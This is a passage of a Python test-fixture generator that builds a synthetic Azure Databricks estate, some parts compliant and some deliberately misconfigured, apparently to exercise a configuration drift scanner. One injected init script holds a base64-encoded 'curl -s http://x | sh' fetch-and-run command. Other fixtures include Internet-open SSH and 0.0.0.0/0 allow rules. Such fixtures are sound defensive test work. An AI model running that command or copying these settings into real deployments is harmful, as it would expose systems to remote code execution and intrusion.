        if name in ("dbw-analytics-prod", "dbw-bi-prod", "dbw-serverless-prod"):
            out.append(lock_doc(rg, "rg-no-delete"))
        elif name in ("dbw-finance-prod", "vendor-etl"):
            out.append(lock_doc(wid, "ws-no-delete"))
    central = f"/subscriptions/{SUB_PROD}/resourceGroups/ops/providers/Microsoft.OperationalInsights/workspaces/"
    for r in resources:  # prod logs go to the central workspace; finance's stream was rerouted elsewhere
        if r["type"] == "Microsoft.Insights/diagnosticSettings" and "/vendor-etl/" in r["id"]:
            r["properties"]["workspaceId"] = central + "law-security"
        if r["type"] == "Microsoft.Insights/diagnosticSettings" and "/dbw-finance-prod/" in r["id"]:
            r["properties"]["workspaceId"] = central + "law-finance"
    return out


def sample_estate() -> dict[str, Any]:
    """About eight workspaces over two subscriptions: compliant ones and every kind of drift."""
    resources: list[dict[str, Any]] = []
    databricks: dict[str, Any] = {}

    def add(ws: dict[str, Any], api: dict[str, Any] | None, diag: dict[str, Any] | None = None) -> None:
        resources.append(ws)
        if diag is not None:
            resources.append(diag)
        if api is not None:
            databricks[ws["properties"]["workspaceUrl"]] = api

    all_cats = ["accounts", "clusters", "jobs", "notebook", "workspace"]
    # 1. fully compliant (prod)
    vid, docs = network_for(SUB_PROD, "rg-analytics", "analytics", space="10.10.0.0/16",
                            public="10.10.0.0/24", private="10.10.1.0/24")
    resources += docs
    ws = workspace_doc(SUB_PROD, "rg-analytics", "dbw-analytics-prod", 1001, vnet_id=vid, tags={"env": "prod"})
    add(ws, api_state(), diag_doc(ws["id"], all_cats))
    # 2. compliant, allLogs category group, canonical location (prod)
    vid, docs = network_for(SUB_PROD, "rg-finance", "finance", space="10.20.0.0/16",
                            public="10.20.0.0/25", private="10.20.0.128/25")
    resources += docs
    ws = workspace_doc(SUB_PROD, "rg-finance", "dbw-finance-prod", 1002, location="westeurope", vnet_id=vid,
                       tags={"env": "prod"})
    add(ws, api_state(), diag_doc(ws["id"], all_logs=True))
    # 3. network drift: someone opened SSH from the Internet, a managed rule edited, a subnet undelegated
    open_ssh = nsg_rule(f"{rg_id(SUB_PROD, 'rg-ml')}/providers/Microsoft.Network/networkSecurityGroups/nsg-ml",
                        "allow-vendor-ssh", "Inbound", 200, "Tcp", "Internet", "VirtualNetwork", "22")
    vid, docs = network_for(SUB_PROD, "rg-ml", "ml", space="10.30.0.0/16", public="10.30.0.0/26",
                            private="10.30.0.64/27", nsg_extra=[open_ssh])
    nsg = docs[1]
    for r in nsg["properties"]["securityRules"]:
        if r["name"].endswith("worker-to-storage"):
            r["properties"]["destinationAddressPrefix"] = "*"
    docs[0]["properties"]["subnets"][1]["properties"]["delegations"] = []
    resources += docs
    ws = workspace_doc(SUB_PROD, "rg-ml", "dbw-ml-prod", 1003, vnet_id=vid, tags={"env": "prod"})
    api = api_state()
    # compute drift: an unknown global init script, a cluster without UC on an unsupported old runtime, no
    # policy, a DBFS init script and no encryption confs; an edited policy, an unpinned one users may use,
    # and legacy global init scripts switched back on
    api["workspace_conf"]["enableDeprecatedGlobalInitScripts"] = "true"
    api["global_init_scripts"].append({"script_id": "A1B2C3D4E5F60002", "name": "debug-tools", "enabled": True,
                                       "position": 1, "script": base64.b64encode(b"curl -s http://x | sh").decode()})
    api["clusters"].append(cluster("0101-120000-ml000001", "ml-legacy", mode="NONE", version="12.2.x-scala2.12",
                                   policy_id=None, conf={}, init_scripts=[{"dbfs": {"destination":
                                                                                     "dbfs:/databricks/init/ml.sh"}}]))
    api["clusters"].append(cluster("0101-120000-ml000002", "ml-gpu", policy_id="pol-ml-free",
                                   mode="LEGACY_SINGLE_USER_STANDARD"))
    api["policy_compliance"] = {"0101-120000-ml000002": {"is_compliant": False,
                                                         "violations": {"spark_conf.spark.databricks.acl": "x"}}}
    api["cluster_policies"][0]["definition"] = UC_POLICY_DEFINITION.replace("1[5-6]", "1[2-6]")
    api["cluster_policies"].append({"policy_id": "pol-ml-free", "name": "ml-free-form",
                                    "definition": json.dumps({"node_type_id": {"type": "unlimited"}})})
    api["policy_permissions"]["pol-ml-free"] = {"access_control_list": [
        {"group_name": "users", "all_permissions": [{"permission_level": "CAN_USE", "inherited": False}]}]}
    # Unity Catalog drift: another metastore, owned by a person, sharing tokens that never expire, a
    # service-principal storage credential, an unapproved access connector, audit system schema off
    api["metastore_assignment"]["metastore_id"] = "9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b1a"
    api["metastore_summary"].update(owner="alice@contoso.com", delta_sharing_recipient_token_lifetime_in_seconds=0)
    api["current_user"]["groups"] = []
    api["current_user"]["userName"] = "alice@contoso.com"
    api["storage_credentials"] += [
        {"name": "legacy-sp", "azure_service_principal": {"directory_id": TENANT, "application_id": SP_APP_ID}},
        {"name": "ml-scratch", "azure_managed_identity": {"access_connector_id": ACCESS_CONNECTOR_ID.replace(
            "ac-uc-prod", "ac-ml-personal")}}]
    api["system_schemas"][0]["state"] = "AVAILABLE"
    add(ws, api, diag_doc(ws["id"], ["accounts", "clusters"]))
    # 4. workspace drift: public access on, no private endpoint, standard SKU, no SCC, no CMK, wrong region
    ws = workspace_doc(SUB_PROD, "rg-legacy", "dbw-legacy", 1004, location="East US 2", sku="standard",
                       npip=None, public_access="Enabled", private_endpoint=None, cmk=False,
                       infra_encryption=False, esc=False, nsg_rules="AllRules", tags={"env": "prod"})
    add(ws, api_state(), None)
    # 5. in-workspace drift: IP access lists off, broad and unexpected ALLOW entries, tokens forever
    vid, docs = network_for(SUB_PROD, "rg-bi", "bi", space="10.40.0.0/16", public="10.40.0.0/24",
                            private="10.40.1.0/24")
    resources += docs
    # (public access on: IP access lists only filter requests that come over the Internet)
    ws = workspace_doc(SUB_PROD, "rg-bi", "dbw-bi-prod", 1005, vnet_id=vid, public_access="Enabled",
                       tags={"env": "prod"})
    conf = dict(COMPLIANT_CONF, enableIpAccessLists="false", maxTokenLifetimeDays="365",
                enableDbfsFileBrowser="true")
    api = api_state(conf=conf, allow=["203.0.113.0/24", "0.0.0.0/0", "192.0.2.10"], block=[],
                    tokens=[token("feedc0ffee000001", None, "bi-service@contoso.com"),
                            token("feedc0ffee000002", 400, SP_APP_ID),
                            token("feedc0ffee000003", 30, last_used_days_ago=200)])
    # token ACL drift: every user may create tokens, and one person outside the baseline's list
    api["token_permissions"]["access_control_list"] += [
        {"group_name": "users", "all_permissions": [{"permission_level": "CAN_USE", "inherited": False}]},
        {"user_name": "analyst@contoso.com", "all_permissions": [{"permission_level": "CAN_USE", "inherited": False}]},
    ]
    # settings drift: admins unrestricted (never written: the default ALLOW_ALL), results downloadable
    del api["settings"]["restrict_workspace_admins"]
    api["settings"]["sql_results_download"] = {"value": True}
    # secret scope drift: a Databricks-backed scope, one on an unapproved vault, two scopes on one vault,
    # every user may read a scope and an analyst manages one
    other_vault = VAULT_ID.replace("kv-dbx-prod", "kv-personal")
    api["secret_scopes"] += [
        {"name": "bi-legacy", "backend_type": "DATABRICKS"},
        {"name": "kv-bi-personal", "backend_type": "AZURE_KEYVAULT",
         "keyvault_metadata": {"resource_id": other_vault, "dns_name": "https://kv-personal.vault.azure.net/"}},
        {"name": "kv-bi", "backend_type": "AZURE_KEYVAULT",
         "keyvault_metadata": {"resource_id": VAULT_ID, "dns_name": "https://kv-dbx-prod.vault.azure.net/"}},
    ]
    # identity drift: a local user made admin through the nested group (which also loops back to admins),
    # a workspace-local group, and every user may create clusters
    groups = {g["displayName"]: g for g in api["scim"]["Groups"]}
    api["scim"]["Users"].append({"id": "1009", "userName": "bob@contoso.com", "displayName": "Bob", "active": True})
    groups["platform-admins"]["members"] += [{"value": "1009", "$ref": "Users/1009"},
                                             {"value": "3001", "$ref": "Groups/3001"}]
    groups["users"]["entitlements"].append({"value": "allow-cluster-create"})
    api["scim"]["Groups"].append({"id": "3010", "displayName": "bi-local", "members": []})
    api["secret_acls"]["kv-bi"] = [{"principal": "users", "permission": "READ"},
                                   {"principal": "analyst@contoso.com", "permission": "MANAGE"}]
    add(ws, api, diag_doc(ws["id"], all_cats))
    # 6. dev workspace: public access allowed by the dev scope, compliant for dev
    vid, docs = network_for(SUB_DEV, "rg-dev", "dev", space="10.50.0.0/16", public="10.50.0.0/24",
                            private="10.50.1.0/24")
    resources += docs
    ws = workspace_doc(SUB_DEV, "rg-dev", "dev-sandbox", 2001, public_access="Enabled", private_endpoint=None,
                       vnet_id=vid, tags={"env": "dev"})
    # PATs switched off (DBX-TOKEN-005 fires against `tokens.enabled: true`; TOKEN-002..004 do not apply);
    # legacy DBFS and legacy access left on
    api = api_state(conf=dict(COMPLIANT_CONF, enableTokensConfig="false"))
    api["settings"]["disable_legacy_dbfs"] = {"value": False}
    api["settings"]["disable_legacy_access"] = {"value": False}
    # no Unity Catalog metastore: DBX-UC-001/002 fire, UC-003/004/005 cannot apply
    for key in ("metastore_assignment", "metastore_summary", "default_namespace", "system_schemas"):
        del api[key]
    add(ws, api, diag_doc(ws["id"], all_cats))
    # 7. dev workspace that shares its subnets with #6, no egress; API unreadable (absent from snapshot)
    ws = workspace_doc(SUB_DEV, "rg-dev", "dev-shared", 2002, public_access="Enabled", private_endpoint=None,
                       vnet_id=vid, tags={"env": "dev"})
    add(ws, None, diag_doc(ws["id"], all_cats))
    # 8. legacy-rg workspace with an exempted vendor rule (exemption in the example baseline)
    rule = nsg_rule(f"{rg_id(SUB_DEV, 'legacy-rg')}/providers/Microsoft.Network/networkSecurityGroups/nsg-vendor",
                    "allow-vendor-ssh", "Inbound", 300, "Tcp", "*", "VirtualNetwork", "22")
    vid, docs = network_for(SUB_DEV, "legacy-rg", "vendor", space="10.60.0.0/16", public="10.60.0.0/24",
                            private="10.60.1.0/24", nsg_extra=[rule], egress=False)
    resources += docs
    ws = workspace_doc(SUB_DEV, "legacy-rg", "vendor-etl", 2003, vnet_id=vid, tags={"env": "prod"})
    api = api_state(block=["192.0.2.0/24"])
    api["current_user"]["groups"] = []  # not metastore admin: DBX-UC-004 reads a partial list, says so
    add(ws, api, diag_doc(ws["id"], all_cats))
    # 9. Serverless workspace (no classic compute plane: no VNet, NSG, no-public-IP or managed disks), private
    # only; the classic-compute rules and IP access lists are not applicable to it
    ws = serverless_workspace_doc(SUB_PROD, "rg-serverless", "dbw-serverless-prod", 1009, public_access="Disabled",
                                  private_endpoint="Approved", cmk=True, tags={"env": "prod"})
    add(ws, api_state(), diag_doc(ws["id"], all_cats))
    resources += sample_rbac()
    resources += arm_extras(resources)
    return {
        "schema": "driftwatch.estate/v1",
        "subscriptions": [
            {"subscriptionId": SUB_PROD, "displayName": "contoso-data-prod", "state": "Enabled"},
            {"subscriptionId": SUB_DEV, "displayName": "contoso-data-dev", "state": "Enabled"},
        ],
        "resources": resources,
        "databricks": databricks,
    }


def large_estate(workspaces: int, subscriptions: int, *, shared_network_every: int = 4,
                 drift_every: int = 7) -> dict[str, Any]:
    """A synthetic estate for benchmarks: `workspaces` spread over `subscriptions`; groups of
    `shared_network_every` workspaces share one VNet and NSG (each with its own two subnets);
    every `drift_every`-th workspace drifts (public access on, 0.0.0.0/0 allowed)."""
    subs = [f"{i:08d}-0000-4000-8000-{i:012d}" for i in range(subscriptions)]
    resources: list[dict[str, Any]] = []
    databricks: dict[str, Any] = {}
    k = shared_network_every
    for g in range(0, workspaces, k):
        sub = subs[(g // k) % subscriptions]
        rg = f"rg-{g // k:05d}"
        nsg = nsg_doc(sub, rg, f"nsg-{g:05d}")
        vid = f"{rg_id(sub, rg)}/providers/Microsoft.Network/virtualNetworks/vnet-{g:05d}"
        nat = f"{rg_id(sub, rg)}/providers/Microsoft.Network/natGateways/nat-{g:05d}"
        subnets = []
        for n in range(g, min(g + k, workspaces)):
            i = n - g
            subnets += [subnet(vid, f"host-{n}", f"10.0.{2 * i}.0/24", nsg["id"], True, nat),
                        subnet(vid, f"container-{n}", f"10.0.{2 * i + 1}.0/24", nsg["id"], True, nat)]
            drift = n % drift_every == 0
            ws = workspace_doc(sub, rg, f"dbw-{n:05d}", 10_000 + n, vnet_id=vid, public_subnet=f"host-{n}",
                               private_subnet=f"container-{n}",
                               public_access="Enabled" if drift else "Disabled", tags={"env": "prod"})
            resources.append(ws)
            resources.append(diag_doc(ws["id"], all_logs=True))
            databricks[ws["properties"]["workspaceUrl"]] = api_state(
                allow=list(BASELINE_ALLOW) + (["0.0.0.0/0"] if drift else []))
        resources += [vnet_doc(sub, rg, f"vnet-{g:05d}", subnets, "10.0.0.0/16"), nsg]
    return {"schema": "driftwatch.estate/v1",
            "subscriptions": [{"subscriptionId": s, "displayName": f"sub-{i}", "state": "Enabled"}
                              for i, s in enumerate(subs)],
            "resources": resources, "databricks": databricks}


if __name__ == "__main__":
    json.dump(sample_estate(), sys.stdout, indent=1)
    sys.stdout.write("\n")
